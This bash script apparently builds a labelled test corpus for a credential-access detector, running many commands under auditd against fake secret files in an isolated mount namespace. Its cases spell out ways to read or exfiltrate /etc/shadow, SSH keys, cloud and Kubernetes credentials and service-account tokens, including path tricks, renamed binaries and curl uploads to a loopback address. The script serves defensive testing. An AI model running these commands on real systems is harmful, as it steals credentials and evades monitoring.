#!/usr/bin/env bash
# Capture a labelled corpus of REAL audited execs for `credwatch quality` (issue #16).
#
#   sudo scripts/capture_quality_corpus.sh [NAME] [OUTDIR]
#
# Writes OUTDIR/NAME.log (the audit.log excerpt of the cases, ENRICHED, node=cwq-node)
# and OUTDIR/NAME.labels.jsonl (one line per case: the audit selectors of every exec
# the case produced, the expected verdict, the group and the command).
#
# Safety:
# * every case runs inside a private mount namespace where /root, /home and /etc/ssh
#   are empty tmpfs trees and /etc/shadow, /etc/gshadow (and their - backups) are
#   bind-mounted fake files, so no real credential of this machine is ever read;
#   the fake files hold "FAKE-CREDWATCH-TEST-NOT-A-SECRET";
# * auditd runs with a private configuration and log under a scratch folder (never
#   /var/log/audit), only when no audit daemon is running, and is stopped by its pid;
# * only this script's execve rule (key cwquality) is added and then deleted; the
#   audit enabled flag is restored to what it was.
#
# Labelling: each case runs in a subshell that writes a unique login uid to
# /proc/self/loginuid (root may, while loginuid_immutable is 0); every exec of the
# case carries that auid, so the case's events are read back from the log by auid
# and labelled by their audit serial: audit:<node>:<stamp>:<serial>.
set -euo pipefail

NAME=${1:-corpus}
OUTDIR=${2:-$(cd "$(dirname "$0")/.." && pwd)/tests/fixtures/quality}
PYTHON=${PYTHON:-python3}
BASE_AUID=4270000

if [[ ${CWQ_INNER:-} != 1 ]]; then
    [[ $(id -u) == 0 ]] || { echo "run as root" >&2; exit 2; }
    if pgrep -x auditd >/dev/null; then
        echo "an audit daemon is already running; not touching it" >&2; exit 2
    fi
    SCRATCH=$(mktemp -d /tmp/cwquality.XXXXXX)
    mkdir -p "$SCRATCH/conf/plugins.d" "$SCRATCH/log"
    # The system's configuration with a private log, no plugins and a node name.
    sed -e "s#^log_file.*#log_file = $SCRATCH/log/audit.log#" \
        -e "s#^plugin_dir.*#plugin_dir = $SCRATCH/conf/plugins.d#" \
        -e "s#^name_format.*#name_format = USER\nname = cwq-node#" \
        -e "s#^log_format.*#log_format = ENRICHED#" \
        -e "s#^max_log_file_action.*#max_log_file_action = IGNORE#" \
        /etc/audit/auditd.conf >"$SCRATCH/conf/auditd.conf"
    chmod 0600 "$SCRATCH/conf/auditd.conf"
    was_enabled=$(auditctl -s | awk '$1=="enabled"{print $2}')
    /sbin/auditd -n -c "$SCRATCH/conf" &
    AUDITD_PID=$!
    cleanup() {
        auditctl -d always,exit -F arch=b64 -S execve -k cwquality 2>/dev/null || true
        kill "$AUDITD_PID" 2>/dev/null || true
        wait "$AUDITD_PID" 2>/dev/null || true
        [[ $was_enabled == 0 ]] && auditctl -e 0 >/dev/null || true
    }
    trap cleanup EXIT
    for _ in $(seq 50); do [[ -s $SCRATCH/log/audit.log ]] && break; sleep 0.1; done
    auditctl -e 1 >/dev/null
    auditctl -a always,exit -F arch=b64 -S execve -k cwquality
    CWQ_INNER=1 SCRATCH=$SCRATCH unshare -m --propagation private "$0" "$NAME" "$OUTDIR"
    auditctl -d always,exit -F arch=b64 -S execve -k cwquality
    sleep 3   # let auditd write the last events before it stops (the log is the only sink)
    cleanup
    trap - EXIT
    mkdir -p "$OUTDIR"
    "$PYTHON" - "$SCRATCH/log/audit.log" "$SCRATCH/cases.tsv" "$OUTDIR/$NAME" "$BASE_AUID" <<'PY'
import json, re, sys
log, cases, out, base = sys.argv[1], sys.argv[2], sys.argv[3], int(sys.argv[4])
stamp_re = re.compile(r"msg=audit\((\d+\.\d+):(\d+)\)")
auid_re = re.compile(r"\bauid=(\d+)")
node_re = re.compile(r"^node=(\S+) ")
lines = open(log, encoding="utf-8", errors="surrogateescape").read().splitlines()
by_serial: dict[str, int] = {}
for line in lines:
    m, a = stamp_re.search(line), auid_re.search(line)
    execve = re.search(r" syscall=(59|322) ", line)  # x86_64 execve, execveat
    if m and a and execve and base < int(a.group(1)) < base + 100000:
        by_serial[m.group(2)] = int(a.group(1))
kept, selectors = [], {}
for line in lines:
    m = stamp_re.search(line)
    if m and m.group(2) in by_serial:
        kept.append(line)
        if " type=EXECVE " in f" {line}" or "type=EXECVE" in line.split(" ", 2)[1]:
            node = node_re.match(line)
            sel = f"audit:{node.group(1) if node else ''}:{m.group(1)}:{m.group(2)}"
            selectors.setdefault(by_serial[m.group(2)], [])
            if sel not in selectors[by_serial[m.group(2)]]:
                selectors[by_serial[m.group(2)]].append(sel)
with open(out + ".log", "w", encoding="utf-8", errors="surrogateescape") as fh:
    fh.write("\n".join(kept) + "\n")
with open(out + ".labels.jsonl", "w", encoding="utf-8") as fh:
    for row in open(cases, encoding="utf-8").read().splitlines():
        auid, expected, group, command = row.split("\t", 3)
        fh.write(json.dumps({"case": f"{group}/{int(auid) - base}", "selectors": selectors.get(int(auid), []),
                             "expected": expected == "true", "group": group, "command": command}) + "\n")
missing = sum(1 for a in range(base + 1, base + 1 + len(open(cases).read().splitlines())) if a not in selectors)
print(f"{len(kept)} audit lines, {len(selectors)} cases with events, {missing} without", file=sys.stderr)
PY
    rm -rf "$SCRATCH"
    exit 0
fi

# ---- inside the private mount namespace -------------------------------------------------
FAKE="FAKE-CREDWATCH-TEST-NOT-A-SECRET"
mount -t tmpfs cwq-root /root
mount -t tmpfs cwq-home /home
mount -t tmpfs cwq-ssh /etc/ssh
for f in /etc/shadow /etc/gshadow /etc/shadow- /etc/gshadow-; do
    if [[ -e $f ]]; then
        echo "$FAKE" >"$SCRATCH/fake.$(basename "$f")"
        mount --bind "$SCRATCH/fake.$(basename "$f")" "$f"
    fi
done
fake() { mkdir -p "$(dirname "$1")"; echo "$FAKE" >"$1"; chmod 600 "$1"; }
for h in /root /home/alice /home/ci; do
    for f in .aws/credentials .aws/config .ssh/id_rsa .ssh/id_rsa.pub .ssh/id_ed25519 .ssh/id_ecdsa \
             .kube/config .kube/config.bak .docker/config.json .git-credentials .netrc .vault-token \
             .config/gcloud/application_default_credentials.json .azure/msal_token_cache.json \
             .aws/cli/cache/abc.json notes.txt; do
        fake "$h/$f"
    done
done
echo "ssh-ed25519 AAAA-FAKE host" >/etc/ssh/ssh_host_ed25519_key.pub
# Projected service-account and workload-identity volumes, laid out as the kubelet does
# (..<timestamp> folder, ..data link to it, file links to ..data/<file>).
mount -t tmpfs cwq-run /run
for vol in kubernetes.io/serviceaccount:token eks.amazonaws.com/serviceaccount:token \
           pods.eks.amazonaws.com/serviceaccount:eks-pod-identity-token azure/tokens:azure-identity-token; do
    dir=/run/secrets/${vol%%:*}; file=${vol##*:}
    mkdir -p "$dir/..2026_12_04_10_00_00.000000001"
    echo "$FAKE" >"$dir/..2026_12_04_10_00_00.000000001/$file"
    ln -s ..2026_12_04_10_00_00.000000001 "$dir/..data"
    ln -s "..data/$file" "$dir/$file"
done
BIN=$SCRATCH/bin  # renamed copies live outside the faithful rule's scratch directories
mkdir -p "$BIN" /tmp/cwq-work
cp /usr/bin/cat "$BIN/sysinfo"; cp /usr/bin/head "$BIN/kthreadd"; cp /usr/bin/base64 "$BIN/logrotate-helper"
mkdir -p /root/repo && git -C /root/repo init -q 2>/dev/null || true

n=0
: >"$SCRATCH/cases.tsv"
run_case() {  # expected group command
    n=$((n + 1))
    printf '%s\t%s\t%s\t%s\n' "$((BASE_AUID + n))" "$1" "$2" "$3" >>"$SCRATCH/cases.tsv"
    ( echo "$((BASE_AUID + n))" >/proc/self/loginuid; cd /root; eval "$3" ) </dev/null >/dev/null 2>&1 || true
}
ev() { run_case true "$1" "$2"; }
bn() { run_case false "$1" "$2"; }

SA=/var/run/secrets/kubernetes.io/serviceaccount
# -- faithful-visible reads (the hardened rule must keep catching them) --
ev plain 'cat /etc/shadow'
ev plain 'cat /root/.aws/credentials'
ev plain 'head /root/.ssh/id_rsa'
ev plain 'base64 /root/.kube/config'
ev plain "cat $SA/token"
ev plain 'cp /root/.docker/config.json /tmp/cwq-work/'
ev plain 'grep -i secret /root/.aws/credentials'
ev plain 'tail -n1 /etc/kubernetes/admin.conf'
# -- other spellings --
ev spelling "cat /run/secrets/kubernetes.io/serviceaccount/token"
ev spelling "cat /run/secrets/eks.amazonaws.com/serviceaccount/token"
ev spelling "head /run/secrets/kubernetes.io/serviceaccount/ca.crt"
ev spelling 'cat /etc/../etc/shadow'
ev spelling 'cat /etc/./shadow'
ev spelling 'cat //etc//shadow'
ev spelling 'cat /root/.aws/../.aws/credentials'
ev spelling 'cat /root/./.ssh/id_rsa'
ev spelling 'cat /root//.kube//config'
ev spelling 'cd /root/.aws && cat credentials'
ev spelling 'cd /root/.ssh && cat id_rsa'
ev spelling 'cd /root/.kube && head config'
ev spelling 'cd /etc && cat shadow'
ev spelling 'cd /root && cat .docker/config.json'
ev spelling 'cd /root/.ssh && cat ../.aws/credentials'
ev spelling 'cat /proc/self/root/etc/shadow'
ev spelling 'cat /proc/self/root/root/.aws/credentials'
ev spelling 'cat /proc/thread-self/root/root/.ssh/id_rsa'
ev spelling 'cat /proc/1/root/etc/shadow'
ev spelling 'cd /root && cat /proc/self/cwd/.aws/credentials'
ev spelling 'cd /root/.kube && cat /proc/self/cwd/config'
ev spelling "sh -c 'cd /root && exec cat /proc/\$\$/cwd/.ssh/id_rsa'"
ev spelling "cd /run/secrets/kubernetes.io/serviceaccount 2>/dev/null; cat /run/secrets/kubernetes.io/serviceaccount/../serviceaccount/token"
ev spelling 'cat /root/.ssh/../.ssh/./id_ed25519'
# -- the path inside a larger argument --
ev embedded "sh -c 'cat /etc/shadow'"
ev embedded "bash -c 'cat /root/.aws/credentials | base64'"
ev embedded "dash -c 'head -c 100 /root/.ssh/id_rsa'"
ev embedded "cd /run/secrets/kubernetes.io/serviceaccount/..data && sh -c 'cat ../token'"
ev spelling "cd /var/run/secrets/kubernetes.io/serviceaccount && cat token"
ev spelling "cd /run/secrets/eks.amazonaws.com/serviceaccount/..data && head token"
ev embedded "bash -lc 'cd /root/.aws; cat credentials'"
ev embedded "bash -c 'X=\$(cat /root/.kube/config); echo \$X'"
ev embedded "sh -c \"sh -c 'cat /etc/shadow'\""
ev embedded 'curl -s -m 1 -d @/root/.aws/credentials http://127.0.0.1:9/'
ev embedded 'curl -s -m 1 --data-binary=@/root/.ssh/id_rsa http://127.0.0.1:9/'
ev embedded 'curl -s -m 1 -F file=@/root/.kube/config http://127.0.0.1:9/'
ev embedded 'curl -s -m 1 -T /root/.docker/config.json http://127.0.0.1:9/'
ev embedded 'curl -s -m 1 file:///etc/shadow'
ev embedded 'dd if=/etc/shadow of=/tmp/cwq-work/s status=none'
ev embedded 'dd if=/root/.ssh/id_rsa of=/dev/null status=none'
ev embedded 'kubectl --kubeconfig=/etc/kubernetes/admin.conf get pods --request-timeout=1s'
ev embedded 'kubectl --kubeconfig=/root/.kube/config.bak get secrets --request-timeout=1s'
ev plain 'openssl rsa -in /etc/kubernetes/pki/ca.key -noout'
ev embedded "python3 -c 'print(open(\"/root/.ssh/id_rsa\").read())'"
ev embedded "python3 -c 'import base64;print(base64.b64encode(open(\"/root/.aws/credentials\",\"rb\").read()))'"
ev embedded "python3 -c \"print(open('/etc/shadow').read())\""
ev embedded "perl -e 'open(F, \"</root/.kube/config\"); print <F>'"
ev embedded "perl -ne 'print' /root/.git-credentials"
ev embedded "node -e 'console.log(require(\"fs\").readFileSync(\"/root/.docker/config.json\",\"utf8\"))'"
ev embedded "node -e 'require(\"fs\").readFileSync(\"/var/run/secrets/kubernetes.io/serviceaccount/token\")'"
ev embedded "bash -c 'base64 < /etc/shadow'"
ev embedded "bash -c 'while read l; do echo \$l; done < /root/.aws/credentials'"
ev embedded "sh -c 'xxd </root/.ssh/id_ed25519'"
ev embedded "bash -c 'echo \$(</root/.netrc)'"
ev embedded "bash -c 'read x < /root/.vault-token; echo \$x'"
ev embedded 'ssh -o BatchMode=yes -o ConnectTimeout=1 -i/root/.ssh/id_ed25519 127.0.0.1 true'
ev embedded "env KUBECONFIG=/etc/kubernetes/super-admin.conf kubectl get nodes --request-timeout=1s"
ev embedded "nice -n 5 cat /etc/shadow"
ev embedded "timeout 2 tac /root/.aws/credentials"
ev embedded "nohup nl /etc/shadow"
# -- tools the faithful rule does not list, and renamed copies --
ev tools 'tac /etc/shadow'
ev tools 'tac /root/.aws/credentials'
ev tools 'nl /root/.ssh/id_rsa'
ev tools 'nl /root/.kube/config'
ev tools "vim -es -c '%p' -c 'q!' /etc/shadow"
ev tools "vim -es -c '%p' -c 'q!' /root/.aws/credentials"
ev tools "view -es -c '%p' -c 'q!' /root/.ssh/id_rsa"
ev tools "ex -s -c '%p' -c 'q!' /root/.docker/config.json"
ev tools 'rev /root/.aws/credentials'
ev tools 'hexdump -C /root/.ssh/id_rsa'
ev tools 'sort /etc/shadow'
ev tools 'uniq /root/.kube/config'
ev tools 'cut -c1-80 /root/.aws/credentials'
ev tools 'paste /etc/shadow'
ev tools 'diff /root/.ssh/id_rsa /dev/null'
ev tools 'cmp /root/.aws/credentials /dev/null'
ev tools 'base32 /root/.ssh/id_ed25519'
ev tools 'fold /root/.kube/config'
ev tools 'pr -t /etc/shadow'
ev tools 'expand /root/.docker/config.json'
ev tools 'iconv -f utf-8 -t utf-8 /root/.aws/credentials'
ev tools 'zcat -f /root/.ssh/id_rsa'
ev tools 'split -n 1 /etc/shadow /tmp/cwq-work/part.'
ev tools 'mawk 1 /root/.aws/credentials'
ev tools 'install -m 644 /root/.aws/credentials /tmp/cwq-work/c'
ev tools 'less /root/.vault-token'
ev tools "\$BIN/sysinfo /etc/shadow"
ev tools "\$BIN/sysinfo /root/.aws/credentials"
ev tools "\$BIN/kthreadd /root/.ssh/id_rsa"
ev tools "\$BIN/logrotate-helper /root/.kube/config"
ev tools "\$BIN/sysinfo $SA/token"
ev tools 'gpg --batch --yes -o /tmp/cwq-work/x.gpg --symmetric --passphrase x /root/.aws/credentials'
# -- credential files the faithful rule never lists --
ev files 'cat /root/.git-credentials'
ev files 'cat /home/alice/.git-credentials'
ev files 'cat /root/.netrc'
ev files 'head /home/ci/.netrc'
ev files 'cat /root/.vault-token'
ev files 'cat /home/alice/.vault-token'
ev files 'cat /home/alice/.ssh/id_ed25519'
ev files 'base64 /home/ci/.ssh/id_ed25519'
ev files 'cat /etc/kubernetes/kubelet.conf'
ev files 'cat /etc/kubernetes/super-admin.conf'
ev files "cat $SA/..data/token"
ev files "cat /run/secrets/kubernetes.io/serviceaccount/..data/token"
ev files 'cat /var/run/secrets/pods.eks.amazonaws.com/serviceaccount/eks-pod-identity-token'
ev files 'cat /run/secrets/pods.eks.amazonaws.com/serviceaccount/eks-pod-identity-token'
ev files 'cat /var/run/secrets/azure/tokens/azure-identity-token'
ev files 'head /run/secrets/azure/tokens/azure-identity-token'
ev files 'cat /root/.kube/config.bak'
ev files 'cat /home/alice/.kube/config.bak'
ev files 'cp /root/.kube/config.bak /tmp/cwq-work/'
ev files 'cat /etc/shadow-'
ev files 'cat /etc/gshadow'
ev files 'cat /var/lib/kubelet/pki/kubelet-client-2026-01-01.pem'
ev files 'cat /etc/kubernetes/pki/sa.key'
ev files 'tac /home/alice/.ssh/id_ecdsa'
ev files 'cat /root/.config/gcloud/application_default_credentials.json'
# -- whole credential folders archived or copied --
ev folders 'tar -czf /tmp/cwq-work/k.tgz /root/.ssh'
ev folders 'cp -r /root/.aws /tmp/cwq-work/aws'
ev folders 'zip -qr /tmp/cwq-work/kube.zip /root/.kube/'
ev folders 'cd /root && tar -cf /tmp/cwq-work/d.tar .docker'
ev folders "tar -czf /tmp/cwq-work/sa.tgz $SA"

# -- benign: metadata-only checks of the same files --
for p in /etc/shadow /root/.aws/credentials /root/.ssh/id_rsa /root/.kube/config $SA/token \
         /root/.git-credentials /etc/kubernetes/admin.conf /home/alice/.ssh/id_ed25519; do
    bn metadata "ls -l $p"
    bn metadata "stat $p"
    bn metadata "/usr/bin/test -f $p"  # the builtin would not exec
    bn metadata "du -h $p"
    bn metadata "file $p"
    bn metadata "stat -c %a $p"
done
for p in /root/.ssh/id_rsa /root/.aws/credentials /root/.kube/config /home/alice/.ssh/id_ed25519; do
    bn metadata "chmod 600 $p"
    bn metadata "chown root:root $p"
done
bn metadata 'ls -la /root/.ssh/'
bn metadata 'ls -la /root/.aws'
bn metadata "ls $SA/"
bn metadata 'find /root/.ssh -name "id_*" -type f'
bn metadata 'find /home -name .git-credentials -perm -o+r'
bn metadata 'nice -n 5 ls -l /etc/shadow'
bn metadata "sh -c 'test -f /etc/kubernetes/admin.conf && echo control-plane'"
bn metadata "bash -c 'ls -l /etc/shadow /etc/gshadow'"
bn metadata 'realpath /root/.kube/config'
bn metadata 'readlink -f /root/.aws/credentials'
bn metadata 'stat -L /etc/shadow'
bn metadata 'lsattr /root/.ssh/id_rsa'
bn metadata 'namei -l /root/.ssh/id_rsa'
# -- benign: package managers, kubectl, git, ssh, editors, backups, config management --
bn packages 'dpkg -S /etc/shadow'
bn packages 'dpkg -L passwd'
bn packages 'dpkg-query -W openssh-client'
bn packages 'dpkg -l'
bn packages 'apt-cache policy openssh-client'
bn packages 'apt-cache show coreutils'
bn packages 'apt list --installed'
bn packages 'dpkg --verify passwd'
bn kubectl 'kubectl version --client'
bn kubectl 'kubectl config view'
bn kubectl 'kubectl get pods --request-timeout=1s'
bn kubectl 'kubectl get nodes -o wide --request-timeout=1s'
bn kubectl 'kubectl config get-contexts'
bn kubectl 'kubectl explain pods'
bn git 'git -C /root/repo status'
bn git 'git -C /root/repo log --oneline -1'
bn git 'git config --global --list'
bn git 'git --version'
bn git 'git -C /root/repo branch -a'
bn ssh 'ssh -V'
bn ssh 'ssh-keygen -l -f /etc/ssh/ssh_host_ed25519_key.pub'
bn ssh 'ssh -G example.com'
bn ssh 'cat /root/.ssh/id_rsa.pub'
bn ssh 'ssh-keygen -F example.com'
bn editors "vim -es -c '%p' -c 'q!' /etc/hostname"
bn editors "vim -es -c 'q!' /root/notes.txt"
bn editors "sed -n 1p /etc/hostname"
bn editors "ex -s -c '%p' -c 'q!' /etc/os-release"
bn editors 'nl /etc/passwd'
bn editors 'tac /etc/hosts'
bn backups 'tar -czf /tmp/cwq-work/etc.tgz --exclude=/etc/shadow --exclude=/etc/gshadow /etc/hostname /etc/hosts /etc/passwd'
bn backups 'tar -czf /tmp/cwq-work/home.tgz --exclude=.ssh --exclude=.aws --exclude=.kube /root/notes.txt'
bn backups 'tar -cf /tmp/cwq-work/n.tar --exclude=.ssh --exclude=.git-credentials /root/notes.txt'
bn backups 'cp -a /etc/hosts /tmp/cwq-work/hosts.bak'
bn backups 'gzip -kf /tmp/cwq-work/hosts.bak'
bn backups 'zip -q /tmp/cwq-work/etc.zip /etc/hostname /etc/hosts'
bn backups 'tar -tzf /tmp/cwq-work/etc.tgz'
bn backups 'sha256sum /etc/passwd /etc/group'
bn admin 'cat /etc/os-release'
bn admin 'grep root /etc/passwd'
bn admin 'head -n 3 /etc/group'
bn admin 'awk -F: "{print \$1}" /etc/passwd'
bn admin 'id root'
bn admin 'getent passwd root'
bn admin 'uname -a'
bn admin 'df -h'
bn admin 'ps -e'
bn admin 'openssl version'
bn admin 'curl --version'
bn admin "python3 -c 'print(1)'"
bn admin "python3 -c 'import json; print(json.dumps({\"a\": 1}))'"
bn admin "perl -e 'print 42'"
bn admin "node -e 'console.log(1)'"
bn admin 'base64 /etc/hostname'
bn admin 'xxd /etc/hostname'
bn admin 'jq -n 1'
bn admin 'find /etc -maxdepth 1 -name "*.conf" -newer /etc/hostname'
bn config "sh -c 'echo BECOME-SUCCESS; /usr/bin/python3 /root/.ansible/tmp/ansible-tmp-1/AnsiballZ_command.py'"
bn config "/bin/sh -c 'test -d /etc/kubernetes || echo absent'"
bn config 'install -d -m 700 /root/.ssh'
bn config 'mkdir -p /root/.kube'
bn config 'chmod 700 /root/.kube'
bn config "sh -c 'ls -l /root/.kube/config >/dev/null && echo present'"
bn config 'chown -R root:root /root/.aws'
bn config 'cp /etc/hosts /tmp/cwq-work/hosts.cwq-test'
bn config 'rm -f /tmp/cwq-work/hosts.cwq-test'
rm -rf /tmp/cwq-work
echo "cases: $n" >&2
